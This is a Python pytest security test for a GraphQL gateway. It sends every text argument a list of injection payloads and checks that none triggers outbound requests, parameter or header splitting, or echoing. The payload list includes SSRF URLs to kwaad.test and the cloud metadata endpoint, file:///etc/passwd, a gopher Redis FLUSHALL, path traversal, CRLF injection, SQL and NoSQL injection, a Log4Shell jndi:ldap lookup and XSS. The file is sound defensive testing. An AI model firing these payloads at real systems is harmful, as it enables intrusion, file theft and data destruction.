"""Whatever a caller writes in an argument, it names no place to ask and breaks out of none.

Every argument of every question that takes a text, those of filters too, is given addresses, paths,
ends of lines and the like. What its scalar refuses is refused before anything is asked; what is
free text arrives as the value of one parameter, at the source and path where it belongs.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from graphql import (
    GraphQLArgument,
    GraphQLEnumType,
    GraphQLField,
    GraphQLInputField,
    GraphQLInputObjectType,
    GraphQLInterfaceType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLObjectType,
    GraphQLScalarType,
    GraphQLUnionType,
    get_named_type,
    is_leaf_type,
    is_required_argument,
)

from tests.app import Running, Setup, facts, gateway_for, sandbox, token
from tests.language.test_scalars import GOOD
from tests.security.twisting import KNOWN_CODES, NOTHING_KEPT, Twisted, is_foreign

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

CANARY = "Kanariepietje"
PAYLOADS = (
    "https://kwaad.test/x",
    "//kwaad.test/x",
    "https://bronnen.test@kwaad.test/x",
    "http://169.254.169.254/latest/meta-data",
    "http://[::1]:6379/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "../../../admin",
    "..%2f..%2fadmin",
    "%252e%252e%252fadmin",
    "..\\..\\admin",
    "a/../../admin",
    "x?fields=*&a=b",
    "x#y",
    "x;a=b",
    "x&burgerservicenummer=999990019",
    "x\r\nX-Audit: niemand",
    "x\nHost: kwaad.test",
    "x\0",
    "x\u202ey",
    "x\u2028y",
    "\uff0e\uff0e\uff0fadmin",
    "' OR '1'='1",
    '{"$gt": ""}',
    "${jndi:ldap://kwaad.test/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "bm90LWEtY3Vyc29y",
    "eyJwYWdlIjoiaHR0cHM6Ly9rd2FhZC50ZXN0In0=",
    CANARY * 1_000,
)
REFUSED_BY = frozenset({"INVOER"})
CLOSED_QUESTIONS = "Mijn"


@dataclass(frozen=True, slots=True)
class Slot:
    """A place for a text: an argument of a question, or a field of an input in it."""

    root: str
    question: str
    argument: str
    field: str | None = None

    def __str__(self) -> str:
        return ".".join(filter(None, (self.root, self.question, self.argument, self.field)))


def _slots() -> Iterator[Slot]:
    for root in ("Query", CLOSED_QUESTIONS):
        for name, question in _fields(root).items():
            for argument, given in question.args.items():
                kind = get_named_type(given.type)
                if isinstance(kind, GraphQLInputObjectType):
                    for field, inner in kind.fields.items():
                        if _is_text(inner):
                            yield Slot(root, name, argument, field)
                elif _is_text(given):
                    yield Slot(root, name, argument)


def _fields(root: str) -> Mapping[str, GraphQLField]:
    found = facts().schema.type_map[root]
    assert isinstance(found, GraphQLObjectType)
    fields: Mapping[str, GraphQLField] = found.fields
    return fields


def _is_text(given: GraphQLArgument | GraphQLInputField) -> bool:
    kind = get_named_type(given.type)
    good = GOOD.get(kind.name, [])
    return isinstance(kind, GraphQLScalarType) and any(isinstance(each, str) for each, _ in good)


def _sample(kind: Any) -> Any:
    """A value that is accepted."""
    if isinstance(kind, GraphQLNonNull):
        return _sample(kind.of_type)
    if isinstance(kind, GraphQLList):
        return [_sample(kind.of_type)]
    if isinstance(kind, GraphQLEnumType):
        return next(iter(kind.values))
    if isinstance(kind, GraphQLInputObjectType):
        return {}
    return {"Int": 1, "Boolean": True}.get(kind.name) or GOOD[kind.name][0][0]


def _asked(slot: Slot, payload: str) -> tuple[str, dict[str, Any]]:
    """A document for the question of this slot, and variables with the payload in it."""
    question = _fields(slot.root)[slot.question]
    given = {
        name: _sample(each.type)
        for name, each in question.args.items()
        if is_required_argument(each) or name == slot.argument
    }
    value: Any = payload
    kind = question.args[slot.argument].type
    if slot.field is not None:
        input_type = get_named_type(kind)
        assert isinstance(input_type, GraphQLInputObjectType)
        value = {slot.field: _as(input_type.fields[slot.field].type, payload)}
    given[slot.argument] = value if slot.field else _as(kind, payload)
    declared = ", ".join(f"${name}: {question.args[name].type}" for name in given)
    passed = ", ".join(f"{name}: ${name}" for name in given)
    asked = f"{slot.question}({passed}){_selected(question.type)}"
    whole = f"mijn{{{asked}}}" if slot.root == CLOSED_QUESTIONS else asked
    return f"query({declared}){{{whole}}}", given


def _as(kind: Any, payload: str) -> Any:
    while isinstance(kind, GraphQLNonNull):
        kind = kind.of_type
    return [payload] if isinstance(kind, GraphQLList) else payload


def _selected(kind: Any, depth: int = 0) -> str:
    """Enough of what a question gives for it to be asked."""
    kind = get_named_type(kind)
    if is_leaf_type(kind):
        return ""
    if isinstance(kind, GraphQLUnionType):
        first = kind.types[0]
        return f"{{... on {first.name}{_selected(first, depth)}}}"
    assert isinstance(kind, GraphQLObjectType | GraphQLInterfaceType)
    for name in ("edges", "node"):
        if name in kind.fields:
            return f"{{{name}{_selected(kind.fields[name].type, depth)}}}"
    leaves = [
        name
        for name, each in kind.fields.items()
        if not each.args and is_leaf_type(get_named_type(each.type)) and "ef" not in name[-3:]
    ]
    return "{" + " ".join(leaves[:3] or ["__typename"]) + "}"


SLOTS = list(_slots())


@pytest.mark.parametrize("root", ["Query", CLOSED_QUESTIONS])
async def test_no_argument_names_a_place(root: str) -> None:
    wrong: list[str] = []
    taken: set[str] = set()
    outdoors = Twisted(sandbox(), lambda _: None)
    setup = Setup(settings={**NOTHING_KEPT, "limits": {"cost": 1_000_000}})
    gateway = gateway_for(setup, outdoors)
    async with gateway.running() as app:
        transport = httpx.ASGITransport(app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://bronpoort.test") as made:
            who = token("999900018" if root == CLOSED_QUESTIONS else None)
            running = Running(made, outdoors, gateway, who)
            for slot in SLOTS:
                if slot.root == root:
                    for payload in PAYLOADS:
                        found = await _mistakes(running, outdoors, slot, payload, taken)
                        wrong += [f"{slot} {payload[:40]!r}: {each}" for each in found]

    assert wrong == []
    assert len(taken) > 10 or root == CLOSED_QUESTIONS


async def _mistakes(
    app: Running, outdoors: Twisted, slot: Slot, payload: str, taken: set[str]
) -> list[str]:
    outdoors.forget()
    answer = await app.ask(*_asked(slot, payload))
    body = answer.json()
    codes = {error["extensions"]["code"] for error in body.get("errors", ())}
    wrong = [f"asked {each.method} {each.url}" for each in outdoors.requests if is_foreign(each)]
    if "data" not in body:
        wrong += [f"asked, though refused: {call.line}" for call in outdoors.calls]
        wrong += [] if codes <= REFUSED_BY else [f"codes {sorted(codes)}"]
        wrong += [] if answer.status_code == 400 else [f"status {answer.status_code}"]
        return [*wrong, *(["echoed"] if payload in answer.text else [])]
    taken.add(str(slot))
    wrong += [] if codes <= KNOWN_CODES else [f"codes {sorted(codes)}"]
    return wrong + [f"split {each.url}" for each in outdoors.requests if _is_split(each, payload)]


def _is_split(request: httpx.Request, payload: str) -> bool:
    """Whether what was one value has become more than that: a parameter or a header of its own."""
    named = {"burgerservicenummer", "a"} & set(request.url.params)
    return bool(named) or "x-audit" in request.headers
